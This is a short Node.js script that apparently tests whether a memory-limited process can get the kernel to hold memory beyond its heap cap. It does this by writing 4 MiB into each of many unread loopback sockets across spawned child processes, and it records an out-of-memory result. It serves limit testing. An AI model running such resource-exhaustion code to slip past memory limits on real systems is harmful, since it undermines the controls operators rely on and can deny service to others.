// exploit: has the kernel hold a gigabyte for hundreds of connections that are written to and never read, beside the memory of the run
// outcome: finished out-of-memory
// says: tried
const net = require('node:net')
const { spawn } = require('node:child_process')
const isChild = process.argv[2] === 'child'
const sockets = []
// What the kernel has taken over is what was written less what still waits in this process.
const heldMiB = () => sockets.reduce((sum, { size, socket }) => sum + size - (socket._handle?.writeQueueSize ?? size), 0) / 2 ** 20
const tell = () => (isChild ? process.send(heldMiB(), () => process.exit(0)) : null)
const server = net.createServer({ pauseOnConnect: true }, (socket) => socket.on('error', () => {})).listen(0, '127.0.0.1', () => {
  const full = Buffer.alloc(4 << 20, 1)
  for (let index = 0; index < 100; index += 1) {
    const socket = net.connect(server.address().port, '127.0.0.1').on('error', () => {})
    socket.on('connect', () => sockets.push({ socket, size: full.length }) && socket.write(full))
  }
  setTimeout(tell, 1_000)
})
if (!isChild) {
  console.log('tried')
  let childrenMiB = 0
  for (let index = 0; index < 3; index += 1)
    spawn(process.execPath, ['--max-old-space-size=30', __filename, 'child'], { stdio: ['ignore', 'ignore', 'ignore', 'ipc'] })
      .on('message', (mebibytes) => {
        childrenMiB += mebibytes
      })
      .on('error', () => {})
  setTimeout(() => {
    const all = heldMiB() + childrenMiB
    if (all >= 256) console.log(`ESCAPED: the kernel holds ${Math.round(all)} MiB`)
    process.exit(0)
  }, 1_800)
}
